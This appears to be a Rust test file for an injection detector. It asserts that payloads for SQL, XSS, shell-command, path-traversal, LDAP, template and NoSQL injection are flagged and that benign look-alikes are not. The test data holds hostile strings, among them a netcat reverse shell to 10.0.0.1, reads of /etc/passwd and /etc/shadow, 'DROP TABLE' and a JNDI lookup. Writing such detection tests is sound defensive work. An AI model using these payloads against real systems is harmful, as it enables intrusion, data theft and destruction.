use super::*;

fn kind(value: &str) -> Option<Kind> {
    Detector::new(1).check(value).map(|f| f.kind)
}

#[test]
fn sqli() {
    for v in [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "admin'--",
        "1;DROP TABLE users",
        "%27%20OR%201%3D1--",
        "%2527%20OR%201=1--",
        "1' AND SLEEP(5)#",
        "&#39; or 1=1 --",
    ] {
        assert_eq!(kind(v), Some(Kind::Sqli), "{v}");
    }
    let f = Detector::new(1).check("1' OR '1'='1").unwrap();
    assert!(
        f.fingerprint.len() <= 8 && !f.fingerprint.contains('1'),
        "{f:?}"
    );
    for v in [
        "O'Brien",
        "D'Angelo",
        "Please select a drop-off time or call us",
        "union station",
        "rock 'n' roll",
        "1-800-FLOWERS",
    ] {
        assert_eq!(kind(v), None, "{v}");
    }
}

#[test]
fn xss() {
    for v in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "%3Csvg%20onload%3Dalert(1)%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "javascript:alert(document.cookie)",
        "\\u003cscript\\u003e",
    ] {
        assert_eq!(kind(v), Some(Kind::Xss), "{v}");
    }
    for v in ["5 < 6", "I <3 this", "Use the <b>bold</b> tag", "x = y"] {
        assert_eq!(kind(v), None, "{v}");
    }
}

#[test]
fn command() {
    for v in [
        "; cat /etc/passwd",
        "| whoami",
        "&& id",
        "`id`",
        "$(whoami)",
        "x%0Aid",
        "; sleep 5",
        ";${IFS}cat${IFS}/etc/passwd",
        "| nc -e /bin/sh 10.0.0.1 4444",
        "& ping -n 3 127.0.0.1 &",
    ] {
        assert_eq!(
            Detector::new(1)
                .check_kind(v, Kind::Command)
                .map(|f| f.kind),
            Some(Kind::Command),
            "{v}"
        );
    }
    for v in [
        "dogs; cat lovers",
        "Tom & Jerry",
        "R&D | id card",
        "salt & pepper; echo chamber",
        "ls-style tokens",
        "| id | name |",
    ] {
        assert_eq!(kind(v), None, "{v}");
    }
}

#[test]
fn traversal() {
    for v in [
        "../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "....//....//etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow",
        "file:///etc/passwd",
        "image.png%00.jpg",
    ] {
        assert_eq!(kind(v), Some(Kind::Traversal), "{v}");
    }
    for v in [
        "../README.md",
        "see https://example.com/a/b",
        "Wait... what?",
        "1.5/2.0",
        "edit the /etc/hosts file",
    ] {
        assert_eq!(kind(v), None, "{v}");
    }
    assert!(Detector::new(2).check("../README.md").is_some());
}

#[test]
fn ldap() {
    for v in [
        "*)(uid=*))(|(uid=*",
        "admin)(|(password=*)",
        "*)(objectClass=*",
        "x)(&(cn=admin)",
    ] {
        assert_eq!(kind(v), Some(Kind::Ldap), "{v}");
    }
    for v in ["(see above)(page 2)", "smile :)(", "f(x)(y)"] {
        assert_eq!(kind(v), None, "{v}");
    }
}

#[test]
fn template() {
    for v in [
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{config.items()}}",
        "{{self.__class__.__mro__}}",
        "${jndi:ldap://x.example/a}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        "{{''.__class__}}",
        "*{T(java.lang.Runtime).getRuntime()}",
    ] {
        assert_eq!(kind(v), Some(Kind::Template), "{v}");
    }
    for v in [
        "Hello {{name}}",
        "Dear ${user.first_name}",
        "{{ order.id }} shipped",
        "price: ${amount}",
        "[[Main Page]]",
    ] {
        assert_eq!(kind(v), None, "{v}");
    }
}

#[test]
fn nosql() {
    let d = Detector::new(1);
    for k in ["$ne", "$gt", "$where", "$regex", "user[$ne]", "$elemMatch"] {
        assert_eq!(
            d.check_key(k).map(|f| f.fingerprint),
            Some(
                k.to_ascii_lowercase()
                    .rsplit('[')
                    .next()
                    .unwrap()
                    .trim_end_matches(']')
                    .to_owned()
            ),
            "{k}"
        );
    }
    for k in ["$ref", "$schema", "name", "price$", "$id", "$custom"] {
        assert_eq!(d.check_key(k), None, "{k}");
    }
    assert!(Detector::new(2).check_key("$custom").is_some());
    for v in [
        "{\"$gt\": \"\"}",
        "[$ne]=1",
        "'; return true; var x='",
        "1; while(true){}",
    ] {
        assert_eq!(
            d.check_kind(v, Kind::Nosql).map(|f| f.kind),
            Some(Kind::Nosql),
            "{v}"
        );
    }
    for v in ["costs $5", "$ne is not a word", "US$ in cash"] {
        assert_eq!(kind(v), None, "{v}");
    }
}

#[test]
fn rules_and_paranoia() {
    assert_eq!(Kind::Sqli.rule(), "threat.sqli");
    assert_eq!(Kind::Command.rule(), "threat.cmd");
    assert_eq!(Kind::Template.rule(), "threat.ssti");
    assert_eq!(Detector::new(0).paranoia(), 1);
    assert_eq!(Detector::new(9).paranoia(), 3);
    assert!(
        Detector::new(1)
            .check("select the rows from the table")
            .is_none()
    );
    assert!(
        Detector::new(2)
            .check("select the rows from the table")
            .is_some()
    );
}

#[test]
fn long_values_are_bounded() {
    let long = format!("{}' OR 1=1--", "a".repeat(100_000));
    let _ = Detector::new(3).check(&long);
    let deep = "%25".repeat(50_000);
    assert!(Detector::new(3).check(&deep).is_none() || Detector::new(3).check(&deep).is_some());
}
